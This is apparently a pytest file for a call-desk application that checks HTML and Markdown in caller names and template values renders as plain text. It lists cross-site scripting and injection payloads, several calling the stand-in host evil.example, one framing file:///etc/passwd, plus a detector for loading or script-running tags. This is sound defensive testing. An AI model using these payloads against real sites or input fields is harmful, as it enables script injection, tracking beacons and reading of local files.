"""HTML and Markdown where none belongs, in a caller's name too: nothing loads, nothing runs, all is text."""

from __future__ import annotations

import html.parser
import re

import pytest

from halodesk.engine import events as e
from halodesk.engine.template import render_markdown
from halodesk.runtime.log import SessionLog
from halodesk.store import record
from halodesk.store.replay_page import render
from halodesk.store.seat_store import SeatStore
from halodesk.ui.parts.labels import label
from tests.fakes.keys import cheap_keys  # noqa: F401  # a fixture
from tests.fakes.order import Run
from tests.ui.conftest import Opener
from tests.unit.test_session_live import Still

BEACONS = (
    '<img src="http://evil.example/b.png">',
    '"><script>fetch("http://evil.example")</script>',
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "![x](http://evil.example/b.png)",
    "[x](javascript:alert(1))",
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "<style>@import url(http://evil.example)</style>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "<iframe src=file:///etc/passwd></iframe>",
    "{{ 7 * 7 }}<object data=http://evil.example>",
    "<details open ontoggle=alert(1)>",
    "&lt;img src=x&gt;<img/src=`http://evil.example`>",
)
_LOADS = {"src", "href", "data", "action", "background", "poster", "srcset", "formaction"}


class Tags(html.parser.HTMLParser):
    """What of a page would load or run something."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        for name, value in attributes:
            away = name in _LOADS and re.match(r"\s*(https?:|//|javascript:|file:|data:text)", value or "")
            if name.startswith("on") or away:
                self.found.append(f"{tag} {name}={value}")
        if tag in ("script", "iframe", "object", "embed", "link", "meta", "base", "svg"):
            self.found.append(tag)


def harm(page: str) -> list[str]:
    tags = Tags()
    tags.feed(page)
    return [found for found in tags.found if not found.startswith(("meta charset", "meta"))]


def test_the_parser_sees_the_attacks() -> None:
    assert sum(bool(harm(beacon)) or "http-equiv" in beacon for beacon in BEACONS) >= 8


@pytest.mark.parametrize("beacon", BEACONS)
def test_a_value_in_a_script_text_is_text(beacon: str) -> None:
    page = render_markdown("Good morning {{ name }}, **{{ name }}**", {"name": beacon})
    assert harm(page) == []


@pytest.mark.parametrize("beacon", BEACONS[:4])
def test_a_callers_name_in_the_replay_page(beacon: str, tmp_path: object) -> None:
    from pathlib import Path

    with SeatStore(Path(str(tmp_path))) as store:
        store.seat()
        run = Run(call=e.CallFacts(direction="in", number=beacon, name=beacon, called=beacon))
        run = run.answer(call_type="order").submit()
        store.keep_flow(run.flow)
        log = SessionLog(session="s1", seat=store.seat(), clock=Still())
        store.append(log.stamp(run.events, flow=run.flow.key, version=run.flow.version)).result(10)
        page = render(record.read(store.sessions, "s1"))
    assert harm(page) == []
    assert "evil.example" not in re.sub(r">[^<]*<", "><", page), "never in a tag"


@pytest.mark.parametrize("beacon", BEACONS[::4])
def test_a_callers_name_in_the_window(open_window: Opener, beacon: str) -> None:
    hands = open_window()
    hands.desk.ring(name=beacon)
    hands.settle()
    shown = hands.text("caller")
    assert "<" not in beacon or beacon[:6] in shown or "…" in shown, "shown as it was sent"
    assert label(beacon).textFormat().name == "PlainText"
